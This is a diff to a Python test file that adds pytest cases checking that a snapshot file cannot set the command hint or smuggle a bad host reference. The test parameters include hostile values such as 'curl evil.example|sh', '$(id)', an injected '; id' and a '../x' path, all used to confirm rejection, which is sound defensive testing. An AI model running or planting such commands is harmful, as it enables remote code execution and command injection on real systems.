@@ -221,3 +221,26 @@ def test_where_the_connection_ended_is_recorded(tmp_path: Path) -> None:
     (tmp_path / "b.jsonl").write_text(text.replace('"10.0.0.2"', '"10.0.0.2; id"'))
     with pytest.raises(UsageError):
         read(tmp_path / "b.jsonl")
+
+
+@pytest.mark.parametrize("hint", ["curl evil.example|sh", "", {"words": ["sh"]}, None])
+def test_what_to_type_is_not_taken_from_a_recording(tmp_path: Path, hint: object) -> None:
+    """Whoever sends the file would choose what is typed."""
+    path = tmp_path / "snapshot.jsonl"
+    first, *rest = lines(snapshot())
+    head = json.loads(first)
+    head["hosts"][1]["reach"]["hint"] = hint
+    path.write_text("".join([f"{json.dumps(head)}\n", *rest]))
+    assert read(path).reach["h2"].hint == "gpustack explain host-key-unknown"
+    assert '"hint"' not in first
+
+
+@pytest.mark.parametrize("reference", ["x; curl evil.example|sh #", "$(id)", "../x", "", 7, None])
+def test_a_reference_that_is_none_is_refused(tmp_path: Path, reference: object) -> None:
+    path = tmp_path / "snapshot.jsonl"
+    first, *rest = lines(snapshot())
+    head = json.loads(first)
+    head["hosts"][1]["reach"]["reference"] = reference
+    path.write_text("".join([f"{json.dumps(head)}\n", *rest]))
+    with pytest.raises(UsageError):
+        read(path)
